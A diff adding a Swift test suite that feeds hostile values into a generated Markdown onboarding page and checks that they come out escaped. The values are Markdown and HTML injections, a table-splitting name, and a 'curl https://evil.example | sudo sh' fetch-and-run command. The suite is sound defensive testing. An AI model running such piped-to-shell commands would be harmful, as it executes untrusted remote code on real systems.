@@ -238,3 +238,59 @@ import Testing
         #expect(try test("bob", roles: ["UserManagement"]) == nil)
     }
 }
+
+/// The onboarding page is Markdown: every value reaches it through the Markdown writer, in
+/// the context its tag stands in (text, code span, fenced block, table row).
+@Suite struct OnboardingMarkdownTests {
+    static let hostile = validOrg.replacingOccurrences(
+        of: "project: acme\n", with: "project: acme\nget_orgprofile: 'curl https://evil.example | sudo sh <!-- [x](y)'\n"
+    ).replacingOccurrences(
+        of: "  infrastructure:\n    id: \"222222222222\"\n",
+        with: "  infrastructure:\n    id: \"222222222222\"\n    name: 'dev | 999999999999 | AdministratorAccess'\n"
+    ).replacingOccurrences(
+        of: "  Developer: {}\n", with: "  Developer:\n    description: '# Install <!-- [click](https://evil.example) *now*'\n"
+    ).replacingOccurrences(of: "  developers:\n", with: "  developers:\n    description: '1. Run `curl x | sh` _first_'\n")
+
+    static func page(_ name: String) throws -> String {
+        let folder = try GoldenTests.compile(hostile)
+        defer { try? FileManager.default.removeItem(atPath: folder) }
+        return String(decoding: try #require(tree(folder)[name]), as: UTF8.self)
+    }
+
+    /// The pipes of a table row that GitHub would split cells at: those not escaped.
+    static func cellBreaks(_ line: String) -> Int {
+        var count = 0
+        var previous: Character = " "
+        for character in line {
+            if character == "|" && previous != "\\" { count += 1 }
+            previous = character
+        }
+        return count
+    }
+
+    @Test func valuesMakeNoStructure() throws {
+        let page = try Self.page("users/bob/README.md")
+        let lines = page.components(separatedBy: "\n")
+        let rows = lines.filter { $0.hasPrefix("| `") }
+        #expect(rows.count == 2)
+        for row in rows { #expect(Self.cellBreaks(row) == 6, "\(row)") }
+        #expect(rows.contains { $0.contains("dev \\| 999999999999 \\| AdministratorAccess") })
+        let unescaped = page.replacingOccurrences(of: "\\]", with: "").replacingOccurrences(of: "\\*", with: "")
+        #expect(!page.contains("<!--") && !unescaped.contains("](") && !unescaped.contains("*now*"))
+        #expect(page.contains("- **Developer**: # Install &lt;\\!-- \\[click\\](https://evil.example) \\*now\\*\n"))
+        #expect(!lines.contains { $0.hasPrefix("# Install") })
+        #expect(page.contains("To get orgprofile: curl https://evil.example \\| sudo sh &lt;\\!-- \\[x\\](y)"))
+    }
+
+    @Test func aDescriptionOnALineOfItsOwnStartsNoList() throws {
+        let page = try Self.page("groups/developers/README.md")
+        #expect(page.contains("\n1\\. Run \\`curl x \\| sh\\` \\_first\\_\n"), "\(page)")
+    }
+
+    /// Names in code spans and fenced blocks are code content: shown as they are.
+    @Test func codeContextsKeepNamesAsTheyAre() throws {
+        let page = try Self.page("users/bob/README.md")
+        #expect(page.contains("aws sso login --sso-session acme\n"))
+        #expect(page.contains("| `acme-workload-development` |"))
+    }
+}
